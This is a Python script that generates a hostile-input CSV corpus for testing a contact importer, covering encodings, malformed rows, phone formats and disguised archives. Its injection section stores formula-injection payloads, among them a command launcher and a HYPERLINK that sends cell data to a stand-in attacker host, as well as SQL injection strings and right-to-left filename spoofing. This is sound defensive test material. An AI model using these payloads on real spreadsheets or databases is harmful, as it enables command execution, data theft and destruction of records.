"""Write the hostile-input corpus next to this script: `python contact_import_tests/corpus/make_corpus.py`.

Why a script: several files are binary or depend on exact bytes (BOMs, NULs, UTF-16, cp1252,
archives, line endings) that editors and git settings silently change. The script is
deterministic (fixed zip timestamps, gzip mtime 0, seeded random bytes), so re-running it
reproduces the committed files byte for byte. `expected.json` is written by hand, not here:
it states what *should* happen to each file.
"""

from __future__ import annotations

import csv
import gzip
import io
import random
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
# A fixed timestamp inside zip entries keeps archives byte-identical between runs.
ZIP_TIME = (2024, 1, 1, 0, 0, 0)
SEED = 20240601


def rows_csv(rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    """Rows as CSV text, quoted only where needed."""
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=newline).writerows(rows)
    return out.getvalue()


def zip_bytes(entries: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in entries.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=ZIP_TIME), text)
    return out.getvalue()


SIMPLE = "Name,Phone,Email\nAda Lovelace,(202) 555-0101,ada@example.com\nBob Stone,(202) 555-0102,bob@example.com\n"

XLSX_ENTRIES = {
    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheets><sheet name="Contacts" sheetId="1"/></sheets></workbook>',
    "xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Phone</t></is></c></row></sheetData></worksheet>',
}

UNICODE_ROWS = [
    ["First Name", "Last Name", "Phone", "City"],
    ["Zoë", "Łukasz", "(202) 555-0111", "Kraków"],
    ["Renée", "O’Brien", "(202) 555-0112", "Zürich"],
    ["Ann", "Lee", "", "Oslo"],
]


def text_files() -> dict[str, bytes]:
    """Files that are plain text in some encoding."""
    files: dict[str, str | bytes] = {
        # --- empty and degenerate ---
        "header_only.csv": "First Name,Last Name,Phone\r\n",
        "blank_lines.csv": "Name,Phone\n\nAda,(202) 555-0241\n   \n\nBob,\nCleo,(202) 555-0242\n\n",
        # --- encodings ---
        "utf8_bom.csv": "\ufeff" + SIMPLE,
        "utf16le_bom.csv": ("\ufeff" + rows_csv(UNICODE_ROWS)).encode("utf-16-le"),
        "utf16be_bom.csv": ("\ufeff" + rows_csv(UNICODE_ROWS)).encode("utf-16-be"),
        "utf16le_no_bom.csv": rows_csv(UNICODE_ROWS).encode("utf-16-le"),
        "utf16be_no_bom.csv": rows_csv(UNICODE_ROWS).encode("utf-16-be"),
        "cp1252_smart_quotes.csv": rows_csv(
            [
                ["First Name", "Last Name", "Phone", "Product", "City"],
                ["Renée", "“Smart” O’Neil", "(202) 555-0121", "Pro plan €49 – yearly", "Montréal"],
                ["François", "Ça", "(202) 555-0122", "Basic €9", "Besançon"],
            ]
        ).encode("cp1252"),
        # --- quoting, ragged rows, NULs, newlines ---
        "unterminated_quote.csv": 'Name,Phone,City\nAda,(202) 555-0131,Boston\n"Bob,(202) 555-0132,Chicago\n'
        "Cleo,(202) 555-0133,Denver\nDan,(202) 555-0134,Austin\n",
        "unterminated_quote_closed_later.csv": 'Name,Phone,Note\nAnn,(202) 555-0135,"ok"\nBen,(202) 555-0136,"runs\n'
        'Cat,(202) 555-0137,fine\nDee,(202) 555-0138,"closes here"\nEve,(202) 555-0139,end\n',
        "unterminated_quote_header.csv": 'Name,"Phone,Email\nAda,(202) 555-0140,ada@example.com\n',
        "ragged_rows.csv": "Name,Phone,City\nAda,(202) 555-0141,Boston\nBob,(202) 555-0142\n"
        "Cleo,(202) 555-0143,Denver,extra\nDan,(202) 555-0144,Austin,,\nEve,(202) 555-0145,Miami\n",
        "nul_in_field.csv": "Name,Phone\nAda\x00Lovelace,(202) 555-0151\nBob,(202) 555-0152\nCleo,(202) 555\x00-0153\n",
        "quoted_newlines.csv": 'Name,Phone,Street\nAda,(202) 555-0161,"1 Main St\nApt 2"\nBob,,"2 Elm St\nFloor 3\nBack"\n'
        "Cleo,(202) 555-0162,3 Oak St\n",
        # --- caps ---
        "huge_field.csv": "Name,Phone,Street\n"
        f"Ada,(202) 555-0171,{'x' * 20_000}\n"
        "Bob,(202) 555-0172,2 Elm St\n"
        f"Cleo,(202) 555-0173,{'y' * 10_000}\n",
        "huge_column_count.csv": ",".join(["Phone"] + [f"c{i}" for i in range(1, 1500)])
        + "\n"
        + ",".join(["(202) 555-0174"] + [""] * 1499)
        + "\n",
        "huge_row_width.csv": "Name,Phone\n" + "Ada,(202) 555-0175," + ",".join("v" for _ in range(100_000)) + "\n"
        "Bob,(202) 555-0176\n",
        # --- headers ---
        "duplicate_headers.csv": "Name,Phone,Phone,Email\nAda,(202) 555-0181,(202) 555-0182,ada@example.com\n"
        "Bob,,(202) 555-0183,bob@example.com\nCleo,(202) 555-0184,,cleo@example.com\nDan,,,dan@example.com\n",
        "no_phone_column.csv": "Name,Email\nAda,ada@example.com\n",
        "headerless.csv": "Ada,Lovelace,(202) 555-0185\nBob,Stone,(202) 555-0186\nCleo,Park,(202) 555-0187\n",
        # --- phones ---
        "excel_scientific.csv": "Name,Phone\nAda,2.02556E+09\nBob,1.20255501E+10\nCleo,12025550191\nDan,2.025550192E9\n",
        "fullwidth_digits.csv": "Name,Phone\nAda,（２０２）５５５－０１９３\nBob,＋１ ２０２ ５５５ ０１９４\nCleo,٢٠٢٥٥٥٠١٩٥\n",
        "extensions.csv": "Name,Phone\nAda,(202) 555-0201 ext. 42\nBob,202-555-0202 x123\nCleo,+1 202 555 0203;ext=9\n"
        "Dan,202.555.0204 #77\n",
        "null_phones.csv": "Name,Phone\nA,NULL\nB,NA\nC,N/A\nD,null\nE,none\nF,-\nG,#N/A\nH,   \nI,(202) 555-0205\n",
        "all_duplicates.csv": "Name,Phone\nA,(202) 555-0206\nB,+1 202-555-0206\nC,202.555.0206\nD,12025550206\n"
        "E,001 202 555 0206\n",
        "country_column.csv": rows_csv(
            [
                ["Name", "Phone", "Country"],
                ["Brit", "020 7946 0958", "UK"],
                ["Deutsch", "030 901820", "Germany"],
                ["Mex", "55 5208 3200", "Mexico"],
                ["Yank", "(202) 555-0207", ""],
                ["Franc", "+33 1 44 27 14 10", "US"],
                ["Narnian", "0412 345 678", "Narnia"],
                ["Aussie", "0412 345 678", "AU"],
            ]
        ),
        # --- injection payloads stored verbatim ---
        "formula_payloads.csv": rows_csv(
            [
                ["First Name", "Last Name", "Phone", "Email"],
                ["=cmd|' /C calc'!A0", "Smith", "(202) 555-0211", "a@example.com"],
                ["+SUM(1)", "Jones", "(202) 555-0212", "b@example.com"],
                ["-2+3", "Brown", "(202) 555-0213", "c@example.com"],
                ["@SUM(A1:A2)", "Lee", "(202) 555-0214", "d@example.com"],
                ['=HYPERLINK("http://evil.example/?x="&A1)', "Dup", "(202) 555-0211", "e@example.com"],
                ["Mallory", "Phone", "=1+2", "@f.example"],
            ]
        ),
        "sql_values.csv": rows_csv(
            [
                ["First Name", "Last Name", "Phone", "Email", "City"],
                [
                    "Robert'); DROP TABLE contacts;--",
                    "Tables",
                    "(202) 555-0221",
                    "bobby@example.com",
                    "'); DROP TABLE contacts;--",
                ],
                ["x' OR '1'='1", "Quote", "(202) 555-0222", "a@b.c'; DELETE FROM contacts WHERE '1'='1", "Boston"],
                ["Eve", "Bad", "'); DROP TABLE contacts;--", "eve@example.com", "Nowhere"],
            ]
        ),
        "emoji_rtl.csv": rows_csv(
            [
                ["First Name", "Last Name", "Phone", "City"],
                ["👩\u200d💻 Ada", "Lovelace\u202egnp.exe", "(202) 555-0231", "東京"],
                ["\u202eevil\u202c", "مرحبا", "(202) 555-0232", "🏳️\u200d🌈 town"],
            ]
        ),
        # --- delimiters and line endings ---
        "semicolon.csv": "Vorname;Nachname;Telefon;Straße\nJürgen;Müller;+49 30 901820;Hauptstr. 1, Hinterhaus\n"
        "Anna;Schmidt;+49 151 23456789;Weg 2\n",
        "tab.csv": "Name\tPhone\tCity\nAda King\t(202) 555-0251\tBoston, MA\nBob\t(202) 555-0252\tDenver\n",
        "pipe.csv": "Name|Phone|City\nAda|(202) 555-0253|Boston, MA\nBob|(202) 555-0254|Denver",
        "crlf.csv": "Name,Phone,City\r\nAda,(202) 555-0255,Boston\r\nBob,,Denver\r\nCleo,(202) 555-0256,Austin\r\n",
        "cr_only.csv": "Name,Phone,City\rAda,(202) 555-0257,Boston\rBob,,Denver\rCleo,(202) 555-0258,Austin\r",
        "mixed_newlines.csv": "Name,Phone\r\nAda,(202) 555-0259\nBob,not a phone\rCleo,(202) 555-0260\r\n",
        # --- a real export ---
        "german_outlook.csv": rows_csv(
            [
                [
                    "Anrede",
                    "Vorname",
                    "Nachname",
                    "Firma",
                    "Straße geschäftlich",
                    "Ort geschäftlich",
                    "Postleitzahl geschäftlich",
                    "Land/Region geschäftlich",
                    "Telefon geschäftlich",
                    "Mobiltelefon",
                    "E-Mail-Adresse",
                    "Notizen",
                ],
                [
                    "Herr",
                    "Jürgen",
                    "Weiß",
                    "Müller GmbH",
                    "Hauptstraße 1",
                    "Berlin",
                    "10115",
                    "Deutschland",
                    "(030) 901820",
                    "0151 23456789",
                    "juergen@example.de",
                    "Größe: XL",
                ],
                [
                    "Frau",
                    "Änne",
                    "Groß",
                    "",
                    "Ringstraße 5",
                    "Wien",
                    "1010",
                    "Österreich",
                    "01 5123456",
                    "",
                    "aenne@example.at",
                    "",
                ],
                ["", "Ole", "Ødegård", "", "", "", "", "", "", "", "ole@example.no", "kein Telefon"],
            ],
            newline="\r\n",
        ).encode("cp1252"),
    }
    return {name: value if isinstance(value, bytes) else value.encode("utf-8") for name, value in files.items()}


def binary_files() -> dict[str, bytes]:
    """Files whose bytes are not CSV text at all, or are empty."""
    noise = random.Random(SEED)
    return {
        "empty.csv": b"",
        "bom_only.csv": b"\xef\xbb\xbf",
        "whitespace_only.csv": b"  \r\n\t\n \n",
        # UTF-8 names, then one byte (0xFF) that is never valid UTF-8, on line 4.
        "invalid_utf8_mid.csv": "Name,Phone\nJosé Núñez,(202) 555-0261\nZoë Müller,(202) 555-0262\n".encode()
        + b"Bj\xffrn,(202) 555-0263\n"
        + "Åsa Öberg,(202) 555-0264\n".encode(),
        "gzip_renamed.csv": gzip.compress(SIMPLE.encode(), mtime=0),
        "zip_renamed.csv": zip_bytes({"contacts.csv": SIMPLE}),
        "xlsx_renamed.csv": zip_bytes(XLSX_ENTRIES),
        # The OLE2 header of a legacy Excel 97-2003 workbook, padded to one sector.
        "xls_renamed.csv": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        # Mostly C0 control bytes, as in a renamed executable or image.
        "binary_garbage.csv": bytes(noise.choice(b"\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0fabc,") for _ in range(4096)),
    }


def main() -> None:
    for name, data in {**text_files(), **binary_files()}.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
